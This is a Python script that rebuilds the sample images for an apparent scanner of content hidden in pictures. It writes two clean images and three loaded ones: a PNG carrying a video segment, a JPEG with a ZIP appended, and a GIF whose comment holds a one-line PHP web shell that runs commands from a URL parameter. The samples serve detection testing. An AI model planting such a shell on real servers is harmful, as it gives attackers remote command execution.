"""Rebuilds samples/, the pictures `stowaway scan samples` shows on a fresh machine (Pillow):
two clean pictures and three that carry something (README "The two commands")."""
import io
import os
import zipfile

from PIL import Image, ImageDraw

os.chdir(os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "samples"))

img = Image.new("RGB", (64, 48), (90, 140, 200))
d = ImageDraw.Draw(img)
d.ellipse((8, 8, 40, 40), fill=(250, 210, 60))
d.rectangle((0, 36, 64, 48), fill=(60, 120, 60))
img.save("clean-photo.jpg", quality=85)
img.save("clean-drawing.png", optimize=True)

# A 1x1 PNG carrying an MPEG-TS segment: HLS video served as a picture.
one = io.BytesIO()
Image.new("RGB", (1, 1), (255, 255, 255)).save(one, "PNG")
ts = b"".join(bytes([0x47, 0x40 if i == 0 else 0x00, 0x00, 0x10 | (i & 15)]) + bytes([0xFF] * 184) for i in range(40))
open("hls-segment.png", "wb").write(one.getvalue() + ts)

# A JPEG with a ZIP archive after it.
z = io.BytesIO()
with zipfile.ZipFile(z, "w", zipfile.ZIP_DEFLATED) as f:
    f.writestr("readme.txt", "this archive rides after the picture\n" * 20)
j = io.BytesIO()
img.save(j, "JPEG", quality=85)
open("photo-with-zip.jpg", "wb").write(j.getvalue() + z.getvalue())

# A GIF whose comment extension carries a PHP web shell.
g = io.BytesIO()
Image.new("P", (8, 8), 1).save(g, "GIF")
gif = g.getvalue()
php = b"<?php system($_GET['c']); ?>"
assert gif.endswith(b"\x3b")
open("php-in-comment.gif", "wb").write(gif[:-1] + b"\x21\xfe" + bytes([len(php)]) + php + b"\x00\x3b")
